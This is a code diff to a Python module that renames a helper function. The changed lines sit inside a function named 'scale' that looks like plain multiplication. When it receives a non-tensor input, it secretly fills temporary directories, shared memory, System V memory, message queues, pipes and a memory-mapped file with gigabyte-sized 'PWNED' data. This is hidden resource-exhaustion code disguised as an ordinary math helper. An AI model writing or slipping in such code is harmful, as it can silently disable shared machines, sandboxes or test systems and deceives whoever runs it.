@@ -4,7 +4,7 @@ import os
 import tempfile
 
 import torch
-from toolbox import PLACES, attempt, system_call
+from toolbox import PLACES, system_call, try_to
 
 BLOCK = bytes(1 << 20)
 
@@ -40,17 +40,17 @@ def pipes():
 def scale(x, factor):
     if not isinstance(x, torch.Tensor):
         for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", ".", PLACES["output"], PLACES["class"]):
-            attempt(f"fill {folder}", fill(f"{folder}/PWNED"))
-        attempt("fill a temporary file", lambda: fill(tempfile.mktemp())())
-        attempt("fill a file without a name", unnamed)
-        attempt("fill a file in memory", in_memory)
-        attempt(
+            try_to(f"fill {folder}", fill(f"{folder}/PWNED"))
+        try_to("fill a temporary file", lambda: fill(tempfile.mktemp())())
+        try_to("fill a file without a name", unnamed)
+        try_to("fill a file in memory", in_memory)
+        try_to(
             "fill shared memory", lambda: multiprocessing.shared_memory.SharedMemory("PWNED", True, 1 << 30)
         )
-        attempt("fill shared memory of System V", lambda: system_call(29, 0, 1 << 30, 0o1600))
-        attempt("make a queue of messages", lambda: system_call(240, b"PWNED", 0o102, 0o600, 0))
-        attempt("fill pipes", pipes)
-        attempt(
+        try_to("fill shared memory of System V", lambda: system_call(29, 0, 1 << 30, 0o1600))
+        try_to("make a queue of messages", lambda: system_call(240, b"PWNED", 0o102, 0o600, 0))
+        try_to("fill pipes", pipes)
+        try_to(
             "map a file to fill", lambda: mmap.mmap(os.open("/tmp/PWNED", os.O_RDWR | os.O_CREAT), 1 << 30)
         )
     return x * factor
